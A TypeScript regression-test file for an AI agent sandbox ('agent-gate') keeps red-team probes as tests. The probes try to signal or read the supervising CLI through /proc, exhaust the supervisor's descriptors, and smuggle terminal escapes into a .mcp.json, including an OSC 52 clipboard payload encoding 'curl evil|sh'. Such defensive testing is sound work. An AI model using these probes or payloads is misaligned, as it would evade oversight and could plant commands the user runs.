// Red-team probes (third red team, session of 2026-12-03) that the gate held, kept as regression tests. Each
// tries the bypass for real through `agent-gate run`, as root and as uid 65534, with an ungated control that
// shows the same try works on this machine:
// - the CLI that started the supervisor (an editor's extension host, a terminal's agent-gate): the agent cannot
//   signal it by any of the calls that reach another process (kill, tgkill, rt_sigqueueinfo, a pidfd), nor
//   advise its memory (process_madvise), nor read its environment, memory or descriptors through /proc
//   (supervisor-hardening and gate-proc cover the supervisor itself with kill and /proc);
// - the supervisor's own descriptors used up by socket calls it performs (each blocked accept holds a
//   reference to the agent's socket): past the supervisor's descriptor limit it fails closed — the agent's
//   further accepts and connects are refused, a program the policy denies is still denied, and the session
//   ends normally with its end record.
// - the end-of-session review of a protected file the agent wrote (the gate's own text on the user's terminal,
//   after the relay that filters the agent's output is gone): the agent's terminal sequences in it are printed
//   escaped (OSC 52, a title, concealed text, C1, bidi), never raw.
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeDirs, prepare, runCli } from './gate-progs/cli';
import { ownedWorkspace } from './helpers/procs';

const NOBODY = 65534;
const AS_NOBODY = ['setpriv', `--reuid=${NOBODY}`, `--regid=${NOBODY}`, '--clear-groups'];
type Who = 'root' | 'nobody';

let dirs: ReturnType<typeof makeDirs>;
let n = 0;

beforeAll(async () => {
  if (process.getuid?.() !== 0) throw new Error('these tests need root: they run the agent as root and as uid 65534');
  await prepare();
  dirs = makeDirs('redteam3');
  fs.chmodSync(dirs.root, 0o755);
});
afterAll(() => dirs?.cleanup());

function workspace(who: Who, policyText: string): { ws: string; state: string; policy: string } {
  return ownedWorkspace(path.join(dirs.root, `${who}-${++n}`), policyText, { owner: who === 'nobody' ? NOBODY : undefined });
}

const results = (out: string): string[] => out.split('\n').filter((l) => l.startsWith('RESULT'));

describe('gate (red-team 3, held): the CLI that started the supervisor is out of the agent\'s reach', () => {
  /** Everything a process can do to another one it knows the pid of, short of ptrace (refused by the filter);
   *  harmless forms only (signal 0, SIGCONT, MADV_COLD). Prints RESULT <what> for each that worked. */
  const PROBE = String.raw`
import ctypes, os, signal, sys
libc = ctypes.CDLL(None, use_errno=True)
pid = int(open(sys.argv[1]).read()) if not sys.argv[1].isdigit() else int(sys.argv[1])
def ok(what, fn):
    try:
        r = fn()
        if r is None or r >= 0: print('RESULT', what, flush=True)
    except OSError:
        pass
ok('kill', lambda: os.kill(pid, 0))
ok('sigcont', lambda: os.kill(pid, signal.SIGCONT))
ok('tgkill', lambda: libc.syscall(234, pid, pid, 0))
info = ctypes.create_string_buffer(128); ctypes.memset(info, 0, 128)
ctypes.c_int.from_buffer(info, 0).value = signal.SIGCONT; ctypes.c_int.from_buffer(info, 8).value = -1  # SI_QUEUE
ok('rt_sigqueueinfo', lambda: libc.syscall(129, pid, signal.SIGCONT, info))
try:
    pfd = os.pidfd_open(pid)
    ok('pidfd_send_signal', lambda: signal.pidfd_send_signal(pfd, 0))
    # An unmapped range: the kernel answers EINVAL/ENOMEM once past the access check, EPERM/EACCES before it.
    iov = (ctypes.c_ulong * 2)(0x10000, 4096)
    if libc.syscall(440, pfd, iov, 1, 20, 0) >= 0 or ctypes.get_errno() not in (1, 13): print('RESULT process_madvise', flush=True)  # MADV_COLD
except OSError:
    pass
for f in ('environ', 'mem', 'maps', 'auxv'):
    try:
        with open('/proc/%d/%s' % (pid, f), 'rb') as h:
            f == 'mem' or h.read(16); print('RESULT read', f, flush=True)
    except OSError:
        pass
for f in ('cwd', 'exe', 'root', 'fd/0'):
    try:
        os.readlink('/proc/%d/%s' % (pid, f)); print('RESULT readlink', f, flush=True)
    except OSError:
        pass
`;
  const POLICY = `[meta]
version = 1
default_action = "allow"

[filesystem]
read_globs = ["/**"]
write_globs = ["\${WORKSPACE}/**"]
require_enforced = true
`;
  const ALL = ['RESULT kill', 'RESULT sigcont', 'RESULT tgkill', 'RESULT rt_sigqueueinfo', 'RESULT pidfd_send_signal', 'RESULT process_madvise', 'RESULT read environ', 'RESULT read mem', 'RESULT read maps', 'RESULT read auxv', 'RESULT readlink cwd', 'RESULT readlink exe', 'RESULT readlink root', 'RESULT readlink fd/0'];

  for (const who of ['root', 'nobody'] as const) {
    it(`signals, pidfd, process_madvise and /proc of the CLI: all refused (${who})`, async () => {
      const w = workspace(who, POLICY);
      const probe = path.join(w.ws, 'probe.py');
      fs.writeFileSync(probe, PROBE, { mode: 0o644 });
      const asWho = who === 'nobody' ? AS_NOBODY : [];

      // Control: ungated, the same probe against a process of the same user that is not its ancestor.
      let outside: ChildProcess | undefined;
      try {
        outside = spawn(asWho[0] ?? 'sleep', [...asWho.slice(1), ...(asWho.length ? ['sleep'] : []), '60'], { stdio: 'ignore' });
        await new Promise((r) => setTimeout(r, 300));
        const ctl = spawnSync(asWho[0] ?? '/usr/bin/python3', [...asWho.slice(1), ...(asWho.length ? ['/usr/bin/python3'] : []), probe, String(outside.pid)], { encoding: 'utf8' });
        // process_madvise on another process needs CAP_SYS_NICE (root only; the gate drops it from a root agent).
        expect(results(ctl.stdout), ctl.stderr).toEqual(who === 'root' ? ALL : ALL.filter((l) => l !== 'RESULT process_madvise'));
      } finally {
        outside?.kill('SIGKILL');
      }

      // Gated: the agent learns the CLI's pid from a file the test writes once the CLI is spawned (a root
      // agent's /proc shows only the session's processes, so it could not walk up to it).
      const pidFile = path.join(w.ws, 'cli.pid');
      const r = await runCli(['sh', '-c', `while [ ! -s ${pidFile} ]; do sleep 0.05; done; /usr/bin/python3 ${probe} ${pidFile}`], {
        policy: w.policy,
        audit: path.join(w.state, 'audit.jsonl'),
        cwd: w.ws,
        env: { HOME: path.dirname(w.ws) },
        wrap: asWho,
        onSpawn: (pid) => fs.writeFileSync(pidFile, String(pid)),
      });
      expect(r.code, r.stderr).toBe(0);
      expect(r.end, r.stderr).toBeDefined();
      expect(results(r.stdout)).toEqual([]);
    });
  }
});

describe('gate (red-team 3, held): socket calls that use up the supervisor\'s descriptors fail closed', () => {
  const LIMIT = 200;
  const THREADS = 260;
  /** THREADS threads blocked in accept on one loopback listener (each a call the supervisor performs on its
   *  own reference to the socket), then: a program the policy denies, one it allows, and a connect to the
   *  agent's own listener. */
  const PROBE = String.raw`
import socket, subprocess, sys, threading, time
l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen(8)
refused = []
def acc():
    try: l.accept()
    except OSError: refused.append(1)
for _ in range(${THREADS}): threading.Thread(target=acc, daemon=True).start()
time.sleep(4)
print('RESULT accepts refused', 'some' if refused else 'none', flush=True)
for argv in (['mount', '--version'], ['true']):
    try: print('RESULT', argv[0], 'rc', subprocess.run(argv, capture_output=True).returncode, flush=True)
    except PermissionError: print('RESULT', argv[0], 'refused', flush=True)
try:
    socket.create_connection(l.getsockname(), timeout=5); print('RESULT own connect ok', flush=True)
except OSError: print('RESULT own connect refused', flush=True)
sys.stdout.flush()
import os; os._exit(0)
`;
  const POLICY = `[meta]
version = 1
default_action = "allow"

[filesystem]
read_globs = ["/**"]
write_globs = ["\${WORKSPACE}/**"]
require_enforced = true

[unix_sockets]
allow = []

[[rule]]
id = "deny-mount"
action = "deny"
reason = "administers the machine"
exe_basename = "mount"
`;

  for (const who of ['root', 'nobody'] as const) {
    it(`${THREADS} accepts past a descriptor limit of ${LIMIT}: the denied program stays denied, the session ends (${who})`, async () => {
      const w = workspace(who, POLICY);
      const probe = path.join(w.ws, 'probe.py');
      fs.writeFileSync(probe, PROBE, { mode: 0o644 });
      const asWho = who === 'nobody' ? AS_NOBODY : [];
      const limit = ['prlimit', `--nofile=${LIMIT}:${LIMIT}`, '--'];

      // Control: ungated, the threads wait in accept, mount runs, the connect works. (Not under the limit: an
      // ungated accept reserves its descriptor in the caller before it waits; a notified one does not.)
      const ctl = spawnSync(asWho[0] ?? '/usr/bin/python3', [...asWho.slice(1), ...(asWho.length ? ['/usr/bin/python3'] : []), probe], { encoding: 'utf8', timeout: 60_000 });
      expect(results(ctl.stdout), ctl.stderr).toEqual(['RESULT accepts refused none', 'RESULT mount rc 0', 'RESULT true rc 0', 'RESULT own connect ok']);

      const r = await runCli(['/usr/bin/python3', probe], {
        policy: w.policy,
        audit: path.join(w.state, 'audit.jsonl'),
        cwd: w.ws,
        env: { HOME: path.dirname(w.ws) },
        wrap: [...limit, ...asWho],
      });
      expect(r.code, r.stderr).toBe(0);
      expect(r.end, r.stderr).toBeDefined();
      const got = results(r.stdout);
      // What must hold whatever the count of descriptors the supervisor has left: the denied program is denied
      // (and recorded so), and the program the policy allows still runs.
      expect(got, r.stderr).toContain('RESULT mount refused');
      expect(got).toContain('RESULT true rc 0');
      expect(r.decisions.some((d) => d.verdict === 'deny' && /mount$/.test(d.exe ?? ''))).toBe(true);
      // The calls past the limit were refused rather than left waiting or passed on.
      expect(got).toContain('RESULT accepts refused some');
    }, 120_000);
  }
});

describe('gate (red-team 3, held): the end-of-session review shows the agent\'s bytes escaped', () => {
  // The review is the gate's own text on the user's terminal, after the relay (which filters the agent's
  // output) is gone: a protected file's content must not carry the agent's terminal sequences there — OSC 52
  // (writes the clipboard the user pastes into a shell), a title, concealed text, a C1 CSI, bidi overrides.
  const EVIL = '{"mcpServers":{}}\n# \x1b]52;c;Y3VybCBldmlsfHNo\x07 \x1b]0;title\x07 \x1b[8mhidden\x1b[0m \u009b31m \u202ertl\n';
  const POLICY = `[meta]
version = 1
default_action = "allow"

[filesystem]
read_globs = ["/**"]
write_globs = ["\${WORKSPACE}/**"]
require_enforced = true
`;
  for (const who of ['root', 'nobody'] as const) {
    it(`a .mcp.json with OSC 52, a title, concealed text, C1 and bidi: reverted, and the review prints them escaped (${who})`, async () => {
      const w = workspace(who, POLICY);
      const writer = path.join(w.ws, 'write.py');
      fs.writeFileSync(writer, `open('.mcp.json', 'w').write(${JSON.stringify(EVIL)})\nimport time; time.sleep(1.5)\n`, { mode: 0o644 });
      const r = await runCli(['/usr/bin/python3', writer], {
        policy: w.policy,
        audit: path.join(w.state, 'audit.jsonl'),
        cwd: w.ws,
        env: { HOME: path.dirname(w.ws) },
        wrap: who === 'nobody' ? AS_NOBODY : [],
      });
      expect(r.code, r.stderr).toBe(0);
      expect(fs.existsSync(path.join(w.ws, '.mcp.json'))).toBe(false);
      // Control: the agent's version kept for review has the raw bytes (the agent did write them).
      const kept = /the agent's version: (\S+)/.exec(r.stderr)?.[1];
      expect(kept, r.stderr).toBeDefined();
      expect(fs.readFileSync(kept!, 'utf8')).toBe(EVIL);
      // What the gate printed: the sequences in escaped form, none of them raw.
      expect(r.stderr).toContain('\\e]52;c;Y3VybCBldmlsfHNo');
      for (const raw of ['\x1b]52', '\x1b]0;title', '\x1b[8m', '\u009b', '\u202e']) expect(r.stderr.includes(raw), JSON.stringify(raw)).toBe(false);
    });
  }
});
